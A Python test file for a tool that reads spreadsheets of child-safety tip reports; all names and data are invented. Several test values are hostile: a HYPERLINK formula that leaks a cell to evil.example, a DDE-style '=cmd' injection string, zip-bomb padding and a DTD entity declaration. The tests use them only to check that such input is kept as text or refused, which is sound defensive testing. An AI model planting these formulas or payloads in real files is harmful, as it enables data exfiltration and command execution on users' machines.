"""Tests of the NCRB hand-off sheet format on CSV and XLSX units built here; all data is made up.

The hashes are those of `conftest.py` (digests of "suraksha synthetic file 1"), the PDFs are a few
bytes that only start like a PDF, and every name, number and address is invented.
"""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from suraksha.errors import FormatError, HostileInputError
from suraksha.intake.formats.handoff_sheet import HandoffSheetFormat
from suraksha.intake.formats.interface import TipDocument
from suraksha.intake.formats.spreadsheets import RATIO_FLOOR_BYTES
from suraksha.intake.records import (
    AccountRecord,
    AccountRole,
    AddressRecord,
    FileRecordData,
    IdentifierKind,
    IdentifierRecord,
    IngestWarning,
    IpEventRecord,
    ParsedTip,
    TipRecord,
)

FORMAT = HandoffSheetFormat()
PDF = b"%PDF-1.4 synthetic"
MD5 = "0B9C8FAFE76761779CAFA0E706952F84"
SHA1 = "07995DCE7541DE6CB32E282952FB8FD291F4D347"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'

HEADERS = [
    "Acknowledgement No",
    "Date of Receipt",
    "Incident Type",
    "ESP Name",
    "State",
    "District",
    "Police Station",
    "Pincode",
    "City",
    "Address",
    "First Name",
    "Last Name",
    "Email ID",
    "Alternate Email",
    "Mobile No",
    "User ID",
    "Service",
    "Screen Name",
    "IP Address",
    "Port",
    "IP Date Time",
    "File Name",
    "MD5",
    "SHA1",
    "Latitude",
    "Longitude",
    "Remarks",
    "Officer Notes",  # not mapped: never read, never part of a row's digest
]

COLUMNS = """\
[columns]
report_id = "Acknowledgement No"
received_at = "Date of Receipt"
incident_type = "Incident Type"
platform = "ESP Name"
state = "State"
district = "District"
police_station = "Police Station"
pincode = "Pincode"
city = "City"
address = "Address"
first_name = "First Name"
last_name = "Last Name"
email = ["Email ID", "Alternate Email"]
phone = "Mobile No"
esp_user_id = "User ID"
esp_service = "Service"
screen_name = "Screen Name"
ip_address = "IP Address"
ip_port = "Port"
ip_time = "IP Date Time"
file_name = "File Name"
md5 = "MD5"
sha1 = "SHA1"
latitude = "Latitude"
longitude = "Longitude"
remarks = "Remarks"

[pdf]
folder = "pdfs"
"""


@dataclass(frozen=True)
class Formula:
    """A real formula cell (openpyxl stores no cached value for it, as Excel would on save)."""

    text: str


Cell = str | int | float | datetime | Formula | None
Row = list[Cell]


def full_row(received: Cell = "14-03-2025 09:40:00", **changes: Cell) -> Row:
    """The fully filled row of report 90412345; `changes` replaces cells by header (_ for space)."""
    values: dict[str, Cell] = {
        "Acknowledgement No": "90412345",
        "Date of Receipt": received,
        "Incident Type": "Online Enticement of Children for Sexual Acts",
        "ESP Name": "ChatKaro",
        "State": "Kerala",
        "District": "Ernakulam",
        "Police Station": "Kochi Central PS",
        "Pincode": "682011",
        "City": "Kochi",
        "Address": "12/4 MG Road",
        "First Name": "Arjun",
        "Last Name": "Menon",
        "Email ID": "arjun.menon84@example.in; a.menon@example.com",
        "Alternate Email": " ",
        "Mobile No": "+91 98470 12345",
        "User ID": "100045678901",
        "Service": "ChatKaro",
        "Screen Name": "@arjun_m_84",
        "IP Address": "117.204.18.77",
        "Port": "50123",
        "IP Date Time": "14-03-2025 18:01:44",
        "File Name": "9a3c6e1f0b.jpg",
        "MD5": MD5,
        "SHA1": SHA1,
        "Latitude": "9.9312",
        "Longitude": "76.2673",
        "Remarks": HYPERLINK,
        "Officer Notes": "call back Monday",
    }
    values.update({header.replace("_", " "): value for header, value in changes.items()})
    return [values[header] for header in HEADERS]


def row(**cells: Cell) -> Row:
    """A row holding only `cells` (by header, spaces written as underscores)."""
    values = {header.replace("_", " "): value for header, value in cells.items()}
    unknown = set(values) - set(HEADERS)
    assert not unknown, unknown
    return [values.get(header) for header in HEADERS]


# Report 90412346: partly readable; report "CT-90412347": not a report number; an empty row; a row
# with an e-mail but no report number.
ODD_ROWS: list[Row] = [
    row(
        Acknowledgement_No="90412346",
        Date_of_Receipt="yesterday",
        Email_ID="neha.s@example.in",
        IP_Address="2401:4900:1c3a:8e2f::1",
        Port="70000",
        MD5="not-a-hash",
        Latitude="91.5",
        Longitude="76.2",
    ),
    row(Acknowledgement_No="CT-90412347", Email_ID="x@example.in"),
    row(),
    row(Email_ID="orphan@example.in"),
]


def write_csv(
    path: Path, rows: Sequence[Sequence[Cell]], encoding: str = "utf-8", delimiter: str = ","
) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    for values in rows:
        writer.writerow(["" if value is None else value for value in values])
    path.write_bytes(buffer.getvalue().encode(encoding))


def write_xlsx(path: Path, rows: Sequence[Sequence[Cell]], title: str = "Sheet1") -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = title
    for number, values in enumerate(rows, start=1):
        for column, value in enumerate(values, start=1):
            if value is None:
                continue
            if isinstance(value, Formula):
                sheet.cell(number, column, value.text)  # openpyxl makes "=..." a formula
                continue
            cell = sheet.cell(number, column, value)
            if isinstance(value, str):
                cell.data_type = "s"  # text, even when it starts with "=": as a sheet types it
    workbook.save(path)


def write_unit(
    where: Path,
    sheets: dict[str, Sequence[Row]],
    mapping: str | None = None,
    pdfs: dict[str, bytes] | None = None,
) -> Path:
    """A unit folder: the mapping (files = the sheets, then COLUMNS), the sheets and the PDFs."""
    unit = where / "handoff"
    (unit / "pdfs").mkdir(parents=True, exist_ok=True)
    if mapping is None:
        names = ", ".join(f'"{name}"' for name in sheets)
        mapping = f"files = [{names}]\n\n{COLUMNS}"
    (unit / "suraksha-mapping.toml").write_text(mapping, encoding="utf-8")
    for name, rows in sheets.items():
        table: list[Sequence[Cell]] = [HEADERS, *rows]
        if name.endswith(".csv"):
            write_csv(unit / name, table)
        else:
            write_xlsx(unit / name, table)
    for name, data in ({"90412345.pdf": PDF} if pdfs is None else pdfs).items():
        (unit / "pdfs" / name).write_bytes(data)
    return unit


def parse_all(unit: Path) -> list[ParsedTip | FormatError]:
    results: list[ParsedTip | FormatError] = []
    for document in FORMAT.documents(unit):
        try:
            results.append(FORMAT.parse(document))
        except FormatError as err:
            results.append(err)
    return results


def expected_tip(sheet: str, received_text: str = "14-03-2025 09:40:00") -> TipRecord:
    at = f"{sheet}#row2"
    return TipRecord(
        source="ncmec",
        source_id="90412345",
        format_name="handoff_sheet",
        incident_type="Online Enticement of Children for Sexual Acts",
        received_at=datetime(2025, 3, 14, 4, 10, tzinfo=UTC),  # 09:40 IST
        reporting_platform="ChatKaro",
        accounts=[
            AccountRecord(
                role=AccountRole.REPORTED,
                path=at,
                service="ChatKaro",
                identifiers=[
                    IdentifierRecord(IdentifierKind.NAME, "Arjun Menon", at),
                    IdentifierRecord(
                        IdentifierKind.EMAIL, "arjun.menon84@example.in", f"{at}/Email ID[0]"
                    ),
                    IdentifierRecord(
                        IdentifierKind.EMAIL, "a.menon@example.com", f"{at}/Email ID[1]"
                    ),
                    IdentifierRecord(IdentifierKind.PHONE, "+91 98470 12345", f"{at}/Mobile No"),
                    IdentifierRecord(
                        IdentifierKind.PLATFORM_USER_ID,
                        "100045678901",
                        f"{at}/User ID",
                        service="ChatKaro",
                    ),
                    IdentifierRecord(
                        IdentifierKind.SCREEN_NAME,
                        "@arjun_m_84",
                        f"{at}/Screen Name",
                        service="ChatKaro",
                    ),
                ],
                ip_events=[
                    IpEventRecord(
                        address="117.204.18.77",
                        path=f"{at}/IP Address",
                        port=50123,
                        at=datetime(2025, 3, 14, 12, 31, 44, tzinfo=UTC),  # 18:01:44 IST
                        at_text="14-03-2025 18:01:44",
                    )
                ],
                addresses=[
                    AddressRecord(
                        path=at,
                        street="12/4 MG Road",
                        city="Kochi",
                        state="Kerala",
                        postal_code="682011",
                    )
                ],
                estimated_location={"latitude": "9.9312", "longitude": "76.2673"},
            )
        ],
        files=[
            FileRecordData(
                file_id="9a3c6e1f0b.jpg",
                path=at,
                file_name="9a3c6e1f0b.jpg",
                hashes={"md5": MD5.lower(), "sha1": SHA1.lower()},
            )
        ],
        details={
            "received_at_text": received_text,
            "state": "Kerala",
            "district": "Ernakulam",
            "police_station": "Kochi Central PS",
            "remarks": HYPERLINK,  # a formula's text is data: kept, never evaluated
            "pdf": "90412345.pdf",
        },
    )


# -- the unit and its documents ----------------------------------------------------------------


def test_csv_rows_become_one_document_each(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [full_row(), *ODD_ROWS]})

    documents = list(FORMAT.documents(unit))

    assert FORMAT.claims(unit)
    assert [document.location for document in documents] == [
        "tips.csv row 2",
        "tips.csv row 3",
        "tips.csv row 4",
        "tips.csv row 6",  # row 5 is empty and skipped
    ]
    assert all(document.origin == unit for document in documents)
    assert [name for name, _ in documents[0].parts] == ["tips.csv#row2", "90412345.pdf"]
    assert documents[0].parts[1][1] == PDF
    assert [name for name, _ in documents[1].parts] == ["tips.csv#row3"]


def test_row_document_is_canonical_json_of_mapped_cells(tmp_path: Path) -> None:
    unit = write_unit(
        tmp_path, {"tips.csv": [row(Acknowledgement_No="90412345", Mobile_No="+91 98470 12345")]}
    )

    (document,) = FORMAT.documents(unit)

    assert document.parts[0] == (
        "tips.csv#row2",
        b'{"cells":{"phone":[{"column":"Mobile No","value":"+91 98470 12345"}],'
        b'"report_id":[{"column":"Acknowledgement No","value":"90412345"}]},'
        b'"dates":{"formats":["%d-%m-%Y %H:%M:%S"],"timezone":"Asia/Kolkata"},"source":"ncmec"}',
    )


def test_full_csv_row_maps_to_expected_record(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [full_row()]})

    parsed = FORMAT.parse(FORMAT.load(unit))

    assert parsed.tip == expected_tip("tips.csv")
    assert parsed.warnings == []


def test_full_xlsx_row_with_typed_cells_maps_to_expected_record(tmp_path: Path) -> None:
    # Numbers and dates typed into Excel read back as the sheet shows them.
    typed = full_row(
        received=datetime(2025, 3, 14, 9, 40),
        Acknowledgement_No=90412345,
        Pincode=682011,
        Port=50123.0,
        Latitude=9.9312,
        Longitude=76.2673,
    )
    unit = write_unit(tmp_path, {"tips.xlsx": [typed]})

    parsed = FORMAT.parse(FORMAT.load(unit))

    assert parsed.tip == expected_tip("tips.xlsx", received_text="2025-03-14T09:40:00")
    assert parsed.warnings == []


def test_unreadable_cells_are_warnings_on_the_cell(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [ODD_ROWS[0]]})
    at = "tips.csv#row2"

    parsed = FORMAT.parse(FORMAT.load(unit))

    assert parsed.tip == TipRecord(
        source="ncmec",
        source_id="90412346",
        format_name="handoff_sheet",
        accounts=[
            AccountRecord(
                role=AccountRole.REPORTED,
                path=at,
                identifiers=[
                    IdentifierRecord(IdentifierKind.EMAIL, "neha.s@example.in", f"{at}/Email ID")
                ],
                ip_events=[IpEventRecord("2401:4900:1c3a:8e2f::1", f"{at}/IP Address")],
            )
        ],
        details={"received_at_text": "yesterday"},
    )
    assert parsed.warnings == [
        IngestWarning(
            f"{at}/Date of Receipt",
            "'yesterday' matches neither '%d-%m-%Y %H:%M:%S' nor ISO 8601.",
        ),
        IngestWarning(
            at,
            "No PDF for report 90412346: pdfs/90412346.pdf is not in the unit; the tip is read "
            "from the sheet alone.",
        ),
        IngestWarning(f"{at}/Port", "'70000' is not a port (0–65535); it was not read."),
        IngestWarning(f"{at}/Latitude", "'91.5' is not a latitude in degrees; not read."),
        IngestWarning(f"{at}/MD5", "'not-a-hash' is not an MD5; not read."),
    ]


def test_bad_rows_are_format_errors_of_their_own(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [full_row(), *ODD_ROWS]})

    results = parse_all(unit)

    assert [type(result).__name__ for result in results] == [
        "ParsedTip",
        "ParsedTip",
        "FormatError",
        "FormatError",
    ]
    assert str(results[2]) == (
        "tips.csv row 4: 'CT-90412347' in column 'Acknowledgement No' is not a CyberTipline "
        "report number (digits only); correct the cell."
    )
    assert str(results[3]) == (
        "tips.csv row 6 has no report number; fill in the report number column or delete the row."
    )


def test_load_wants_exactly_one_row(tmp_path: Path) -> None:
    several = write_unit(tmp_path / "several", {"tips.csv": [full_row(), ODD_ROWS[0]]})
    empty = write_unit(tmp_path / "empty", {"tips.csv": []})

    with pytest.raises(FormatError, match=r"several tip rows; .* read row by row"):
        FORMAT.load(several)
    with pytest.raises(FormatError, match="has no data rows"):
        FORMAT.load(empty)


def test_claims(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [full_row()]})
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "tips.csv").write_text("a,b\n")

    assert FORMAT.claims(unit)
    assert not FORMAT.claims(plain)
    assert not FORMAT.claims(unit / "suraksha-mapping.toml")
    assert not FORMAT.claims(unit / "tips.csv")


# -- idempotency -------------------------------------------------------------------------------


def digests(unit: Path) -> dict[str | None, str]:
    return {document.location: document.digest for document in FORMAT.documents(unit)}


@pytest.mark.parametrize("sheet", ["tips.csv", "tips.xlsx"])
def test_a_changed_row_changes_only_its_own_digest(tmp_path: Path, sheet: str) -> None:
    rows = [
        full_row(),
        row(Acknowledgement_No="90412346", Email_ID="neha.s@example.in"),
        row(Acknowledgement_No="90412348", Mobile_No="+91 94470 00000"),
    ]
    before = digests(write_unit(tmp_path / "before", {sheet: rows}))
    again = digests(write_unit(tmp_path / "again", {sheet: rows}))
    rows[0] = full_row(Officer_Notes="an unmapped edit")
    rows[1] = row(Acknowledgement_No="90412346", Email_ID="neha.sharma@example.in")
    after = digests(write_unit(tmp_path / "after", {sheet: rows}))

    assert again == before
    assert after[f"{sheet} row 2"] == before[f"{sheet} row 2"]
    assert after[f"{sheet} row 3"] != before[f"{sheet} row 3"]
    assert after[f"{sheet} row 4"] == before[f"{sheet} row 4"]


def test_the_pdf_is_part_of_its_rows_digest(tmp_path: Path) -> None:
    rows = [full_row()]
    first = digests(write_unit(tmp_path / "a", {"tips.csv": rows}))
    other_pdf = digests(
        write_unit(tmp_path / "b", {"tips.csv": rows}, pdfs={"90412345.pdf": PDF + b"2"})
    )

    assert first != other_pdf


# -- formulas are data -------------------------------------------------------------------------


def test_formula_like_cells_are_kept_as_text(tmp_path: Path) -> None:
    rows = [
        row(
            Acknowledgement_No="90412345",
            First_Name="=cmd|' /C calc'!A0",
            Last_Name="-2+3",
            Mobile_No="+91 98470 12345",
            Screen_Name="@SUM(1+1)",
            Remarks=Formula("=1+2"),  # a real formula: no cached value, so no value at all
        )
    ]
    unit = write_unit(tmp_path, {"tips.xlsx": rows})
    at = "tips.xlsx#row2"

    tip = FORMAT.parse(FORMAT.load(unit)).tip

    assert tip.accounts[0].identifiers == [
        IdentifierRecord(IdentifierKind.NAME, "=cmd|' /C calc'!A0 -2+3", at),
        IdentifierRecord(IdentifierKind.PHONE, "+91 98470 12345", f"{at}/Mobile No"),
        IdentifierRecord(IdentifierKind.SCREEN_NAME, "@SUM(1+1)", f"{at}/Screen Name"),
    ]
    assert "remarks" not in tip.details


# -- several sheets, CSV dialects, header rows, sources ----------------------------------------


def test_several_sheets_and_mapping_options(tmp_path: Path) -> None:
    unit = tmp_path / "handoff"
    unit.mkdir()
    (unit / "suraksha-mapping.toml").write_text(
        'files = ["a.csv", "b.xlsx"]\n'
        'sheet = "Forwarded"\n'
        "header_row = 2\n"
        'encoding = "cp1252"\n'
        'delimiter = ";"\n'
        'source = "ncrb-test"\n'
        "[columns]\n"
        'report_id = "ACK NO"\n'
        'name = "Name"\n'
        'received_at = "Received"\n'
        "[dates]\n"
        'format = ["%d/%m/%Y %H:%M", "%d-%m-%Y"]\n'
        'timezone = "Asia/Kolkata"\n',
        encoding="utf-8",
    )
    write_csv(
        unit / "a.csv",
        [
            ["Forwarded by NCRB"],
            ["Ack  No ", "Name", "Received"],
            ["1001", "Zoë Fernandes", "02/01/2025 05:30"],
        ],
        encoding="cp1252",
        delimiter=";",
    )
    write_xlsx(
        unit / "b.xlsx",
        [["Forwarded by NCRB"], ["ACK NO", "Name", "Received"], ["1002", "Kiran", "03-01-2025"]],
        title="Forwarded",
    )

    tips = [result for result in parse_all(unit) if isinstance(result, ParsedTip)]

    assert [(p.tip.source, p.tip.source_id, p.tip.received_at) for p in tips] == [
        ("ncrb-test", "1001", datetime(2025, 1, 2, 0, 0, tzinfo=UTC)),
        ("ncrb-test", "1002", datetime(2025, 1, 2, 18, 30, tzinfo=UTC)),
    ]
    assert tips[0].tip.accounts[0].identifiers == [
        IdentifierRecord(IdentifierKind.NAME, "Zoë Fernandes", "a.csv#row3/Name")
    ]


def test_dates_with_a_zone_keep_it_and_iso_is_always_read(tmp_path: Path) -> None:
    rows = [
        row(Acknowledgement_No="1", Date_of_Receipt="2025-03-14T18:01:44+00:00"),
        row(Acknowledgement_No="2", Date_of_Receipt="2025-03-14 18:01:44"),
    ]
    unit = write_unit(tmp_path, {"tips.csv": rows})

    received = [
        result.tip.received_at for result in parse_all(unit) if isinstance(result, ParsedTip)
    ]

    assert received == [
        datetime(2025, 3, 14, 18, 1, 44, tzinfo=UTC),
        datetime(2025, 3, 14, 12, 31, 44, tzinfo=UTC),
    ]


# -- unit-level errors name what to fix --------------------------------------------------------


def test_a_missing_header_lists_the_headers_there(tmp_path: Path) -> None:
    unit = write_unit(
        tmp_path,
        {"tips.csv": [full_row()]},
        mapping='files = ["tips.csv"]\n[columns]\nreport_id = "Ack No"\n',
    )

    with pytest.raises(
        FormatError,
        match=r"row 1 has no column headed 'Ack No' \(mapped to report_id\); its headers are: "
        r"'Acknowledgement No', 'Date of Receipt'",
    ):
        list(FORMAT.documents(unit))


def test_a_duplicated_header_is_ambiguous(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {}, mapping='files = ["t.csv"]\n[columns]\nreport_id = "No"\n')
    write_csv(unit / "t.csv", [["No", "no "], ["1", "2"]])

    with pytest.raises(FormatError, match="2 columns are headed 'No'"):
        list(FORMAT.documents(unit))


def test_a_missing_sheet_or_worksheet_is_named(tmp_path: Path) -> None:
    missing_file = write_unit(
        tmp_path / "a", {}, mapping='files = ["tips.xlsx"]\n[columns]\nreport_id = "A"\n'
    )
    wrong_sheet = write_unit(
        tmp_path / "b",
        {"tips.xlsx": [full_row()]},
        mapping=f'files = ["tips.xlsx"]\nsheet = "Sheet 2"\n{COLUMNS}',
    )

    with pytest.raises(FormatError, match=r"names the sheet tips\.xlsx, but there is no such file"):
        list(FORMAT.documents(missing_file))
    with pytest.raises(
        FormatError, match="has no worksheet 'Sheet 2'; its worksheets are: 'Sheet1'"
    ):
        list(FORMAT.documents(wrong_sheet))


def test_a_broken_later_sheet_fails_before_any_row_is_yielded(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"a.csv": [full_row()], "b.xlsx": []})
    (unit / "b.xlsx").write_bytes(b"not a workbook")

    with pytest.raises(FormatError, match=r"b\.xlsx is not an \.xlsx workbook"):
        next(FORMAT.documents(unit))


def test_wrong_encoding_says_how_to_fix_it(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {}, mapping='files = ["t.csv"]\n[columns]\nreport_id = "No"\n')
    (unit / "t.csv").write_bytes("No,Name\n1,Zo\u00eb\n".encode("cp1252"))

    with pytest.raises(FormatError, match=r"t\.csv is not utf-8-sig text .* set encoding"):
        list(FORMAT.documents(unit))


# -- hostile input -----------------------------------------------------------------------------


def rewrite_member(path: Path, member: str, change: Callable[[bytes], bytes]) -> None:
    """Rewrite one member of a zip archive in place, keeping the others as they are."""
    with zipfile.ZipFile(path) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in members:
            target.writestr(info, change(data) if info.filename == member else data)


def test_an_xlsx_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.xlsx": [full_row()]})
    padding = b" " * (4 * RATIO_FLOOR_BYTES)  # whitespace after the root: valid XML, 1000:1
    rewrite_member(unit / "tips.xlsx", "xl/worksheets/sheet1.xml", lambda data: data + padding)

    with pytest.raises(HostileInputError, match=r"zip bomb: its part xl/worksheets/sheet1\.xml"):
        list(FORMAT.documents(unit))


def test_a_workbook_declaring_a_dtd_is_refused(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.xlsx": [full_row()]})

    rewrite_member(
        unit / "tips.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda data: b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaa">]>' + data,
    )

    with pytest.raises(HostileInputError, match="declares a DTD or entities"):
        list(FORMAT.documents(unit))


@pytest.mark.parametrize("sheet", ["tips.csv", "tips.xlsx"])
def test_more_rows_than_max_rows_is_refused(tmp_path: Path, sheet: str) -> None:
    rows = [row(Acknowledgement_No=str(number)) for number in range(1, 4)]
    limited = (
        f'files = ["{sheet}"]\n[columns]\nreport_id = "Acknowledgement No"\n[limits]\nmax_rows = '
    )
    within = write_unit(tmp_path / "within", {sheet: rows}, mapping=limited + "3\n")
    beyond = write_unit(tmp_path / "beyond", {sheet: rows}, mapping=limited + "2\n")

    assert len(list(FORMAT.documents(within))) == 3
    with pytest.raises(HostileInputError, match="more than 2 data rows"):
        list(FORMAT.documents(beyond))


def test_a_row_past_excels_last_row_is_refused(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.xlsx": [full_row()]})
    rewrite_member(
        unit / "tips.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda data: data.replace(b'<row r="2"', b'<row r="1048577"').replace(
            b'r="A2"', b'r="A1048577"'
        ),
    )

    with pytest.raises(HostileInputError, match="past 1,048,576"):
        list(FORMAT.documents(unit))


def test_rows_past_a_wrong_declared_size_are_still_read(tmp_path: Path) -> None:
    # A workbook declares its used range; a wrong one must not hide the rows below it.
    rows = [full_row(), row(Acknowledgement_No="90412346"), row(Acknowledgement_No="90412348")]
    unit = write_unit(tmp_path, {"tips.xlsx": rows})
    rewrite_member(
        unit / "tips.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda data: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A2"', data),
    )

    assert len(list(FORMAT.documents(unit))) == 3


def test_links_out_of_the_unit_are_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside.pdf"
    outside.write_bytes(PDF)
    unit = write_unit(tmp_path, {"tips.csv": [full_row()]}, pdfs={})
    os.symlink(outside, unit / "pdfs" / "90412345.pdf")

    with pytest.raises(HostileInputError, match="is a link to a file outside"):
        list(FORMAT.documents(unit))


def test_parse_refuses_documents_of_another_shape(tmp_path: Path) -> None:
    unit = write_unit(tmp_path, {"tips.csv": [full_row()]})
    document = FORMAT.load(unit)
    row_part, pdf_part = document.parts

    for parts in [
        (pdf_part,),
        (row_part, pdf_part, ("notes.txt", b"x")),
        (row_part, ("90412399.pdf", PDF)),
        (("tips.csv#row2", b'{"cells":{}, "dates":{}, "source":"ncmec"}'),),
        (("tips.csv#row2", b'{"cells":{"emial":[]}}'),),
    ]:
        with pytest.raises(FormatError):
            FORMAT.parse(TipDocument(origin=unit, parts=parts))


# -- arbitrary cell text -----------------------------------------------------------------------

FUZZ = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
FUZZED_HEADERS = (
    "Acknowledgement No",
    "Date of Receipt",
    "Email ID",
    "Port",
    "IP Date Time",
    "MD5",
    "Latitude",
    "Longitude",
)


def check_every_row(unit: Path) -> None:
    try:
        documents = list(FORMAT.documents(unit))
    except FormatError:
        return
    for document in documents:
        try:
            parsed = FORMAT.parse(document)
        except FormatError:
            continue
        assert parsed.tip.source_id.isascii() and parsed.tip.source_id.isdigit()
        for value in (
            parsed.tip.received_at,
            *(e.at for a in parsed.tip.accounts for e in a.ip_events),
        ):
            assert value is None or value.tzinfo is UTC


@FUZZ
@given(
    cells=st.lists(
        st.one_of(st.text(), st.from_regex(r"[0-9]{1,12}", fullmatch=True)),
        min_size=len(FUZZED_HEADERS),
        max_size=len(FUZZED_HEADERS),
    )
)
def test_arbitrary_csv_cell_text_gives_tips_or_format_errors(cells: list[str]) -> None:
    values = dict(zip((h.replace(" ", "_") for h in FUZZED_HEADERS), cells, strict=True))
    with tempfile.TemporaryDirectory() as where:
        check_every_row(write_unit(Path(where), {"tips.csv": [full_row(**values), row(**values)]}))


@FUZZ
@given(
    cells=st.lists(
        st.text().map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text)),
        min_size=len(FUZZED_HEADERS),
        max_size=len(FUZZED_HEADERS),
    )
)
def test_arbitrary_xlsx_cell_text_gives_tips_or_format_errors(cells: list[str]) -> None:
    values = dict(zip((h.replace(" ", "_") for h in FUZZED_HEADERS), cells, strict=True))
    with tempfile.TemporaryDirectory() as where:
        check_every_row(write_unit(Path(where), {"tips.xlsx": [row(**values)]}))
